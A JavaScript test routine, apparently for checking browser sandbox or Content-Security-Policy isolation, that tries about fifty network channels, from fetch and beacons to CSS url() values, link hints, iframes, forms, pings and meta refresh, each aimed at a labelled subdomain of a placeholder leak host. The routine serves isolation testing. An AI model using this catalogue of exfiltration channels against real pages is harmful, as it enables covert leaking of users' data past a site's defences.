// Every way to the network that a page has, each to an address that tells which way it was.
var attackNetwork = async function (where, LEAK, report) {
  const to = (name) => "https://" + name + "." + where + "." + LEAK + "/" + name;
  const insert = (html) => {
    const holder = document.createElement("div");
    if (holder.setHTMLUnsafe) holder.setHTMLUnsafe(html); else holder.innerHTML = html;
    document.body.append(...holder.childNodes);
  };
  const tries = {
    fetch: () => fetch(to("fetch"), { mode: "no-cors" }),
    keepalive: () => fetch(to("keepalive"), { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
    fetchlater: () => fetchLater(to("fetchlater"), { activateAfter: 0 }),
    xhr: () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", to("xhr")); x.onload = ok; x.onerror = no; x.send(); }),
    beacon: () => navigator.sendBeacon(to("beacon"), "x"),
    websocket: () => new Promise((ok, no) => { const s = new WebSocket(to("websocket").replace("https", "wss")); s.onopen = ok; s.onerror = no; }),
    eventsource: () => new Promise((ok, no) => { const s = new EventSource(to("eventsource")); s.onopen = ok; s.onerror = no; }),
    webtransport: () => new WebTransport(to("webtransport")).ready,
    websocketstream: () => new WebSocketStream(to("websocketstream").replace("https", "wss")).opened,
    image: () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = to("image"); }),
    audio: () => new Audio(to("audio")).play(),
    module: () => import(to("module")),
    worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('" + to("worker") + "', {mode: 'no-cors'})"]))),
    sharedworker: () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + to("sharedworker") + "', {mode: 'no-cors'})"]))),
    networkworker: () => new Worker(to("networkworker")),
    serviceworker: () => navigator.serviceWorker.register("/sw.js"),
    fontface: () => new FontFace("x", "url(" + to("fontface") + ")").load(),
    worklet: () => CSS.paintWorklet.addModule(to("worklet")),
    notification: () => new Notification("x", { icon: to("notification") }),
    payment: () => new PaymentRequest([{ supportedMethods: to("payment") }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
    identity: () => navigator.credentials.get({ identity: { providers: [{ configURL: to("identity"), clientId: "x" }] } }),
    xslt: () => { const d = new DOMParser().parseFromString("<?xml-stylesheet type='text/xsl' href='" + to("xslt") + "'?><a/>", "text/xml"); document.body.append(document.importNode(d.documentElement, true)); },
    style: () => insert("<style>@import '" + to("import") + "'; @font-face{font-family:q;src:url(" + to("font") + ")} .q{font-family:q;" +
      "background:url(" + to("background") + ");cursor:url(" + to("cursor") + "),auto;list-style:url(" + to("list") + ");mask:url(" + to("mask") + "#m);" +
      "border-image:url(" + to("border") + ") 1;filter:url(" + to("filter") + "#f);clip-path:url(" + to("clip") + "#c);content:url(" + to("content") + ")}" +
      ".q::after{content:image-set(url(" + to("imageset") + ") 1x)}</style><p class=q style='background:url(" + to("inline") + ")'>q</p>"),
    links: () => insert(["stylesheet", "icon", "preload", "prefetch", "prerender", "modulepreload", "preconnect", "dns-prefetch", "manifest", "next",
      "canonical", "alternate stylesheet", "apple-touch-icon", "import", "search", "compression-dictionary", "expect", "author", "pingback"]
      .map((rel) => "<link rel='" + rel + "' as=image href='" + to("link-" + rel.replace(" ", "-")) + "'>").join("")),
    media: () => insert("<video poster='" + to("poster") + "' src='" + to("video") + "' autoplay muted></video><video autoplay><source src='" + to("source") +
      "'><track default src='" + to("track") + "'></video><picture><source srcset='" + to("srcset") + "'><img src='" + to("img") + "' srcset='" + to("imgset") +
      " 2x'></picture><input type=image src='" + to("input") + "'><table background='" + to("table") + "'><tr><td background='" + to("cell") + "'></table>"),
    objects: () => insert("<object data='" + to("object") + "'></object><embed src='" + to("embed") + "'><iframe src='" + to("iframe") +
      "'></iframe><frame src='" + to("frame") + "'><applet code='" + to("applet") + "'></applet><fencedframe></fencedframe><portal src='" + to("portal") + "'></portal>"),
    drawings: () => insert("<svg><image href='" + to("svgimage") + "'/><use href='" + to("svguse") + "#u'/><feImage href='" + to("svgfe") +
      "'/><script href='" + to("svgscript") + "'></scr" + "ipt><a href='" + to("svga") + "'/></svg><math><mglyph src='" + to("mglyph") + "'/></math>"),
    script: () => { const s = document.createElement("script"); s.setAttributeNS(null, "src", to("script")); document.head.append(s); },
    speculation: () => { const s = document.createElement("script"); s.type = "speculationrules"; s.append(JSON.stringify({ prefetch: [{ urls: [to("specfetch")] }], prerender: [{ urls: [to("specrender")] }] })); document.head.append(s); },
    attribution: () => insert("<img attributionsrc='" + to("attribution") + "' src='" + to("attributed") + "'>"),
    ping: () => { insert("<a id=p href='#x' ping='" + to("ping") + "'>p</a>"); document.getElementById("p").click(); },
    policy: () => insert("<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri " + to("report") + "\"><img src=x>"),
    form: () => { insert("<form id=f action='" + to("form") + "' method=post><input name=a></form>"); document.getElementById("f").submit(); },
    newtab: () => { insert("<form id=g action='" + to("newtab") + "' target=_blank><input name=a></form>"); document.getElementById("g").requestSubmit(); },
    popup: () => window.open(to("popup")) ? undefined : Promise.reject("null"),
    cache: () => caches.open("x").then((c) => c.add(to("cache"))),
    background: () => navigator.serviceWorker.ready,
    reporting: () => new ReportingObserver(() => {}).observe(),
    protocol: () => navigator.registerProtocolHandler("mailto", to("protocol") + "?%s"),
    write: () => document.body.insertAdjacentHTML("beforeend", "<img src='" + to("adjacent") + "'><link rel=preconnect href='" + to("adjacentlink") + "'>"),
  };
  for (const [name, way] of Object.entries(tries)) {
    const late = new Promise((_, fail) => setTimeout(() => fail("no answer"), 300));
    try { await Promise.race([Promise.resolve(way()), late]); report(name, "tried"); } catch (error) { report(name, "blocked " + error); }
  }
  report("end", "yes");
  const leaving = {
    refresh: () => insert("<meta http-equiv=refresh content='0;url=" + to("refresh") + "'>"),
    download: () => { insert("<a id=d download href='" + to("download") + "'>d</a>"); document.getElementById("d").click(); },
  };
  await new Promise((go) => setTimeout(go, 3000));
  for (const way of Object.values(leaving)) way();
};
